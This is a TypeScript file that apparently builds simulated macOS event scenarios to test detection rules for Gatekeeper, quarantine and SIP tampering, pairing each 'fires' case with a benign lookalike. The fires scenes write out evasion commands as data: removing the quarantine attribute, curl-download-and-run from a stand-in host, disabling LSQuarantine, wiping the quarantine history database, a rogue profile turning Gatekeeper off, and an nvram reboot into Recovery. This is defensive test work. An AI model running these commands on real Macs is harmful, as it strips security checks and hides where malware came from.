import { HOUR, MINUTE, SECOND } from "#core/base/clock.ts";
import { cast, HOME, SHELL_ENV } from "../cast.ts";
import { adHoc, type Code, developerId, linkerSigned, platformBinary, unsigned } from "../code.ts";
import { type EsPart, es } from "../es.ts";
import { ANA_AS_ROOT, type LiveProcess, ROOT } from "../es-process.ts";
import { log } from "../log-lines.ts";
import type { Mac } from "../mac.ts";
import { probe } from "../probes.ts";
import { restart, scene, sipPartlyOff, sudo } from "./scene.ts";

const QUARANTINE = "com.apple.quarantine";
const DOWNLOADS = `${HOME}/Downloads`;
const VIEWER_APP = `${DOWNLOADS}/Invoice Viewer.app`;
const viewer = adHoc(`${VIEWER_APP}/Contents/MacOS/Invoice Viewer`, "com.invoice.viewer");
const lantern = "/Applications/Lantern.app";

/** Apple's tools; their signing ids are inferred from their names (UNVERIFIED). */
const tools = {
  osascript: platformBinary("/usr/bin/osascript", "com.apple.osascript"),
  unzip: platformBinary("/usr/bin/unzip", "com.apple.unzip"),
  defaults: platformBinary("/usr/bin/defaults", "com.apple.defaults"),
  sqlite3: platformBinary("/usr/bin/sqlite3", "com.apple.sqlite3"),
  chmod: platformBinary("/bin/chmod", "com.apple.chmod"),
  rm: platformBinary("/bin/rm", "com.apple.rm"),
  reboot: platformBinary("/sbin/reboot", "com.apple.reboot"),
  mdmclient: platformBinary("/usr/libexec/mdmclient", "com.apple.mdmclient"),
  lsd: platformBinary("/usr/libexec/lsd", "com.apple.lsd"),
} as const satisfies Record<string, Code>;
const ruby = linkerSigned("/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.4.7/bin/ruby");
const lanternUpdater = developerId(`${lantern}/Contents/MacOS/Updater`, "dev.lantern.updater", "K8R2V5J4ND");

function opens(mac: Mac, code: Code): LiveProcess {
  mac.adHocRemarks(code);
  return mac.launch(mac.launchd, code, { app: true });
}

/** One command in ana's shell, and what it does to files. */
function command(mac: Mac, shell: LiveProcess, code: Code, args: readonly string[], ...does: EsPart[]): void {
  const process = mac.launch(shell, code, { args, env: SHELL_ENV, cwd: DOWNLOADS });
  for (const part of does) mac.event(process, part);
  mac.exit(process);
}

function writes(path: string): EsPart[] {
  return [es.create(path, 0o100755), es.close(path)];
}

/** Safari loads and marks, and Archive Utility unpacks and carries the mark over to all of it. */
function downloads(mac: Mac, app: string, program: string): void {
  const unpacker = mac.launch(mac.launchd, cast.archiveUtility, { app: true });
  for (const part of writes(program)) mac.event(unpacker, part);
  mac.event(unpacker, es.setextattr(`${app}/Contents`, QUARANTINE));
  mac.event(unpacker, es.setextattr(app, QUARANTINE));
  mac.exit(unpacker);
}

/** A script takes the mark off by a call of its own, so that no xattr ever runs. */
const g2Fires = scene("g2 fires", (mac, shell) => {
  downloads(mac, VIEWER_APP, viewer.path);
  mac.wait(10 * SECOND);
  const args = ["osascript", "-l", "JavaScript", `${DOWNLOADS}/open.js`];
  command(mac, shell, tools.osascript, args, es.deleteextattr(VIEWER_APP, QUARANTINE));
  mac.wait(20 * SECOND);
  opens(mac, viewer);
});

/** An updater takes the mark off what it brought, Apple's services off what they keep, and the Finder off nothing. */
const g2Quiet = scene("g2 quiet", (mac) => {
  const updater = mac.launch(mac.launchd, lanternUpdater, { app: true });
  mac.event(updater, es.deleteextattr(lantern, QUARANTINE));
  mac.event(updater, es.deleteextattr("/Applications/Northwind Chat.app", QUARANTINE));
  mac.exit(updater);
  mac.wait(5 * SECOND);
  mac.launch(mac.launchd, cast.lanternEditor, { app: true });
  mac.event(mac.already(tools.lsd), es.deleteextattr(`${DOWNLOADS}/notes.pdf`, QUARANTINE));
});

const APPROVED = "01c1;691d7c11;Safari;1B2C5B5E-52A1-4B8B-A6B5-7D0C4B2C9A10";
const UNAPPROVED = "0181;691d7c11;Safari;1B2C5B5E-52A1-4B8B-A6B5-7D0C4B2C9A10";

/** The mark stays, but says now that the user has opened it. The file watch has the value that Endpoint Security lacks. */
const g3Fires = scene(
  "g3 fires",
  (mac, shell) => {
    downloads(mac, VIEWER_APP, viewer.path);
    mac.wait(10 * SECOND);
    const args = ["osascript", "-l", "JavaScript", `${DOWNLOADS}/open.js`];
    command(mac, shell, tools.osascript, args, es.setextattr(VIEWER_APP, QUARANTINE));
    mac.capture.fs({
      path: VIEWER_APP,
      change: "xattr-set",
      xattr: QUARANTINE,
      before: UNAPPROVED,
      after: APPROVED,
    });
    mac.wait(20 * SECOND);
    opens(mac, viewer);
  },
  { sources: ["es", "log", "probe", "fs"] },
);

/** macOS itself notes that the user opened it; Homebrew carries the mark over to a copy, without the bit. */
const g3Quiet = scene(
  "g3 quiet",
  (mac, shell) => {
    downloads(mac, VIEWER_APP, viewer.path);
    const agent = mac.already(cast.coreServicesUIAgent);
    mac.event(agent, es.setextattr(VIEWER_APP, QUARANTINE));
    mac.capture.fs({ path: VIEWER_APP, change: "xattr-set", xattr: QUARANTINE, before: UNAPPROVED, after: APPROVED });
    mac.wait(10 * SECOND);
    const brew = mac.launch(shell, ruby, { args: ["ruby", "brew.rb", "upgrade", "--cask", "lantern"], env: SHELL_ENV });
    const staged = "/opt/homebrew/Caskroom/lantern/3.2.0/Lantern.app";
    command(
      mac,
      brew,
      cast.xattr,
      ["xattr", "-w", QUARANTINE, "0181;691d7c11;Homebrew Cask;5D0E6E0A-8F0B-43E5-8B0C-1C8C2A6C1E10", staged],
      es.setextattr(staged, QUARANTINE),
    );
    mac.wait(10 * SECOND);
    mac.launch(mac.launchd, cast.lanternEditor, { app: true });
  },
  { sources: ["es", "log", "probe", "fs"] },
);

const SETUP = `${DOWNLOADS}/setup`;
const setup = adHoc(SETUP, "setup");

/** What a web page told somebody to paste into Terminal. */
const g4Fires = scene("g4 fires", (mac, shell) => {
  const url = "https://tidepool.example.invalid/setup";
  command(mac, shell, cast.curl, ["curl", "-fsSL", "-o", SETUP, url], ...writes(SETUP));
  command(mac, shell, tools.chmod, ["chmod", "+x", SETUP], es.setmode(SETUP, 0o755));
  mac.wait(5 * SECOND);
  mac.adHocRemarks(setup);
  mac.launch(shell, setup, { args: ["./setup"], env: SHELL_ENV, cwd: DOWNLOADS });
});

/** A tool fetched into a project, one that its developer signed, and Homebrew trying out what it poured. */
const g4Quiet = scene("g4 quiet", (mac, shell) => {
  const tides = linkerSigned(`${HOME}/Developer/tides/tides`);
  command(mac, shell, cast.curl, ["curl", "-o", tides.path, "https://tides.example.invalid/"], ...writes(tides.path));
  mac.run(shell, tides, { args: ["./tides"], env: SHELL_ENV });
  const signed = developerId(`${DOWNLOADS}/ledger`, "example.ledger", "7QXW3N5R2K");
  command(mac, shell, cast.curl, ["curl", "-O", "https://ledger.example.invalid/"], ...writes(signed.path));
  mac.run(shell, signed, { args: ["./ledger"], env: SHELL_ENV });
  const brew = mac.launch(shell, ruby, { args: ["ruby", "brew.rb", "install", "jq"], env: SHELL_ENV });
  const poured = adHoc("/private/tmp/jq-20261119-812-x1k/jq", "jq");
  command(mac, brew, cast.tar, ["tar", "--extract", "--file", "jq.tar.gz"], ...writes(poured.path));
  mac.run(brew, poured, { args: ["jq", "--version"] });
  mac.exit(brew);
});

/** An archive whose inside is marked, and whose app is not. */
const g5Fires = scene("g5 fires", (mac) => {
  const unpacker = mac.launch(mac.launchd, cast.archiveUtility, { app: true });
  for (const part of writes(viewer.path)) mac.event(unpacker, part);
  mac.event(unpacker, es.setextattr(`${VIEWER_APP}/Contents`, QUARANTINE));
  mac.event(unpacker, es.setextattr(viewer.path, QUARANTINE));
  mac.exit(unpacker);
  mac.capture.file({
    path: VIEWER_APP,
    quarantine: null,
    provenance: false,
    cdhash: viewer.cdhash.toLowerCase(),
    assessment: null,
  });
  mac.wait(15 * SECOND);
  opens(mac, viewer);
});

/** An ordinary archive: all of it is marked; and a list of rights on somebody's documents. */
const g5Quiet = scene("g5 quiet", (mac, shell) => {
  const document = `${HOME}/Documents/Shared.app`;
  command(mac, shell, tools.chmod, ["chmod", "+a", "staff deny delete", document], es.setacl(document));
  downloads(mac, VIEWER_APP, viewer.path);
  mac.wait(15 * SECOND);
  opens(mac, viewer);
});

/** macOS starts the interpreter for the script that stands in the place of the program. */
function opensScript(mac: Mac, app: string, name: string): LiveProcess {
  const script = `${app}/Contents/MacOS/${name}`;
  return mac.launch(mac.launchd, cast.bash, { args: ["/bin/bash", script], script, app: true });
}

/** Marked, and yet Gatekeeper, which was heard a moment before, scans nothing. */
const g6Fires = scene("g6 fires", (mac) => {
  mac.log(log.syspolicyd.assessment());
  downloads(mac, VIEWER_APP, viewer.path);
  mac.wait(15 * SECOND);
  opensScript(mac, VIEWER_APP, "Invoice Viewer");
  mac.wait(20 * SECOND);
});

/** An app that was made of a script by honest means: Gatekeeper scans it and asks. */
const g6Quiet = scene("g6 quiet", (mac) => {
  const app = `${DOWNLOADS}/Paper Sorter.app`;
  const stub = adHoc(`${app}/Contents/MacOS/Paper Sorter`, "org.papersorter");
  mac.log(log.syspolicyd.assessment());
  downloads(mac, app, stub.path);
  mac.wait(15 * SECOND);
  opensScript(mac, app, "Paper Sorter");
  mac.log(log.syspolicyd.performScan(stub, "4f1c22aa90b7d3e1", "org.papersorter"));
  mac.log(log.syspolicyd.scanResult(0, stub, "4f1c22aa90b7d3e1", "org.papersorter"));
  mac.log(log.syspolicyd.promptShown(stub, "4f1c22aa90b7d3e1", "org.papersorter"));
  mac.wait(20 * SECOND);
});

const POLICY = "/private/var/db/SystemPolicyConfiguration/SystemPolicy";

/** A rule for the app, Gatekeeper's own files, and then the app. */
const g9Fires = scene("g9 fires", (mac, shell) => {
  sudo(mac, shell, cast.spctl, ["spctl", "--add", "--label", "Viewer", VIEWER_APP], 0);
  mac.wait(10 * SECOND);
  const parent = mac.launch(shell, cast.sudo, { args: ["sudo", "sqlite3", POLICY], as: ANA_AS_ROOT });
  const sqlite = mac.launch(parent, tools.sqlite3, { args: ["sqlite3", POLICY], as: ANA_AS_ROOT });
  mac.event(sqlite, es.close(POLICY));
  mac.exit(sqlite);
  mac.exit(parent);
  mac.wait(30 * SECOND);
  opens(mac, viewer);
});

/** It is asked, and Gatekeeper keeps its own files. */
const g9Quiet = scene("g9 quiet", (mac, shell) => {
  mac.run(shell, cast.spctl, { args: ["spctl", "--assess", "-vv", VIEWER_APP], env: SHELL_ENV, status: 3 });
  mac.run(shell, cast.spctl, { args: ["spctl", "--list"], env: SHELL_ENV });
  mac.event(mac.already(cast.syspolicyd, { as: ROOT }), es.close(POLICY));
});

const MANAGED = 0;
const BY_HAND = 1;

/** A profile that somebody was talked into; a moment later Gatekeeper is off. */
const g10Fires = scene("g10 fires", (mac) => {
  const mdmclient = mac.already(tools.mdmclient, { as: ROOT });
  mac.event(
    mdmclient,
    es.profileAdd(mdmclient, "com.searchmate.systempolicy.control", "Search Mate", "Search Mate Ltd", BY_HAND),
  );
  mac.wait(20 * SECOND);
  mac.probes([probe.spctlStatus("disabled")]);
});

/** An organisation enrols the Mac and hands out the same settings; and a network's profile is installed by hand. */
const g10Quiet = scene("g10 quiet", (mac) => {
  const mdmclient = mac.already(tools.mdmclient, { as: ROOT });
  mac.event(
    mdmclient,
    es.profileAdd(mdmclient, "edu.harbour.systempolicy.control", "Security", "Harbour University", MANAGED),
  );
  mac.event(mdmclient, es.profileAdd(mdmclient, "edu.harbour.wifi", "Wi-Fi", "Harbour University", BY_HAND));
  mac.wait(20 * SECOND);
  mac.probes([probe.spctlStatus("enabled")]);
});

/** From now on nothing is marked, and what the browser brings next runs unchecked. */
const g11Fires = scene("g11 fires", (mac, shell) => {
  command(mac, shell, tools.defaults, ["defaults", "write", "com.apple.LaunchServices", "LSQuarantine", "-bool", "NO"]);
  mac.wait(HOUR);
  const unpacker = mac.launch(mac.launchd, cast.archiveUtility, { app: true });
  for (const part of writes(viewer.path)) mac.event(unpacker, part);
  mac.exit(unpacker);
  mac.wait(MINUTE);
  opens(mac, viewer);
});

/** It is read, other things are set, and what is downloaded is marked. */
const g11Quiet = scene("g11 quiet", (mac, shell) => {
  command(mac, shell, tools.defaults, ["defaults", "read", "com.apple.LaunchServices", "LSQuarantine"]);
  command(mac, shell, tools.defaults, ["defaults", "write", "com.apple.dock", "autohide", "-bool", "NO"]);
  mac.wait(MINUTE);
  downloads(mac, VIEWER_APP, viewer.path);
});

const HISTORY = `${HOME}/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2`;

/** Something that came without a mark runs, and then where it came from is forgotten. */
const g12Fires = scene("g12 fires", (mac, shell) => {
  const agent = unsigned("/Users/Shared/.cache/helperd/agentd");
  const stage = mac.launch(shell, cast.bash, { args: ["bash", "-c", "stage"], env: SHELL_ENV });
  for (const part of writes(agent.path)) mac.event(stage, part);
  mac.launch(stage, agent);
  mac.wait(MINUTE);
  command(mac, shell, tools.sqlite3, ["sqlite3", HISTORY, "delete from LSQuarantineEvent"], es.close(HISTORY));
});

/** The history is read, macOS writes to it, and a local build runs. */
const g12Quiet = scene("g12 quiet", (mac, shell) => {
  command(mac, shell, tools.sqlite3, ["sqlite3", HISTORY, "select LSQuarantineDataURLString from LSQuarantineEvent"]);
  mac.event(mac.already(tools.lsd), es.close(HISTORY));
  const tides = linkerSigned(`${HOME}/Developer/tides/a.out`);
  command(mac, shell, cast.clang, ["clang", "tides.c"], ...writes(tides.path));
  mac.run(shell, tides, { args: ["./a.out"], env: SHELL_ENV });
});

/** Something unsigned looks around before it does anything. */
const s2Fires = scene("s2 fires", (mac, shell) => {
  const agent = mac.launch(shell, unsigned("/Users/Shared/.cache/helperd/agentd"));
  const look = mac.launch(agent, cast.sh, { args: ["sh", "-c", "csrutil status"] });
  mac.run(look, cast.csrutil, { args: ["csrutil", "status"] });
  mac.exit(look);
});

/** Device management asks each hour. */
const s2Quiet = scene("s2 quiet", (mac) => {
  const mdmclient = mac.already(tools.mdmclient, { as: ROOT });
  const seen = mac.launch(mac.launchd, mdmclient.code, { args: ["mdmclient", "daemon"], as: ROOT });
  for (let hour = 0; hour < 3; hour += 1) {
    mac.run(seen, cast.csrutil, { args: ["csrutil", "status"] });
    mac.wait(HOUR);
  }
});

/** Into Recovery by command, and back with part of SIP off. */
const s3Fires = scene("s3 fires", (mac, shell) => {
  sudo(mac, shell, cast.nvram, ["nvram", "recovery-boot-mode=unused"], 0);
  mac.wait(5 * SECOND);
  sudo(mac, shell, tools.reboot, ["reboot"], 0);
  restart(mac, sipPartlyOff);
});

/** The variable is read, another one is written, and the Mac restarts as it does every week. */
const s3Quiet = scene("s3 quiet", (mac, shell) => {
  mac.run(shell, cast.nvram, { args: ["nvram", "recovery-boot-mode"], env: SHELL_ENV, status: 1 });
  sudo(mac, shell, cast.nvram, ["nvram", "StartupMute=%01"], 0);
  sudo(mac, shell, cast.shutdown, ["shutdown", "-r", "now"], 0);
  restart(mac, (mac) => mac.healthyProbes());
});

export const GATEKEEPER_A_SCENARIOS = {
  "g2-fires": g2Fires,
  "g2-quiet": g2Quiet,
  "g3-fires": g3Fires,
  "g3-quiet": g3Quiet,
  "g4-fires": g4Fires,
  "g4-quiet": g4Quiet,
  "g5-fires": g5Fires,
  "g5-quiet": g5Quiet,
  "g6-fires": g6Fires,
  "g6-quiet": g6Quiet,
  "g9-fires": g9Fires,
  "g9-quiet": g9Quiet,
  "g10-fires": g10Fires,
  "g10-quiet": g10Quiet,
  "g11-fires": g11Fires,
  "g11-quiet": g11Quiet,
  "g12-fires": g12Fires,
  "g12-quiet": g12Quiet,
  "s2-fires": s2Fires,
  "s2-quiet": s2Quiet,
  "s3-fires": s3Fires,
  "s3-quiet": s3Quiet,
} as const;
